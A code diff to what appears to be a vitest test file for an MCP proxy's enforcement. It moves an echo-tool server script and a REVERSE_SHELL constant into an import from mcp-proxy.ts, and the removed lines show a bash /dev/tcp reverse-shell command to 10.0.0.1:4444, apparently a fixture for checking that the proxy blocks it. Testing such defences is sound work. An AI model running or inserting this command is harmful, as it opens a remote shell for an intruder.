@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { json } from './client.ts'
-import { enforce, runStdio } from './mcp-proxy.ts'
+import { enforce, REVERSE_SHELL, runStdio, TOOLS } from './mcp-proxy.ts'
 import { startMesh, type Mesh } from './start-mesh.ts'
 
 let mesh: Mesh
@@ -9,18 +9,6 @@ beforeAll(async () => {
   await enforce(mesh)
 })
 afterAll(() => mesh[Symbol.asyncDispose]())
-
-/** Answers each call with the text that it is called with. */
-const TOOLS = `
-import { createInterface } from 'node:readline'
-for await (const line of createInterface({ input: process.stdin })) {
-  const { id, method, params } = JSON.parse(line)
-  const content = [{ type: 'text', text: String(params.arguments?.text) }]
-  if (method === 'tools/call') process.stdout.write(JSON.stringify({ jsonrpc: '2.0', id, result: { content } }) + '\\n')
-}
-`
-
-const REVERSE_SHELL = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'
 
 interface Named {
   readonly callId: string
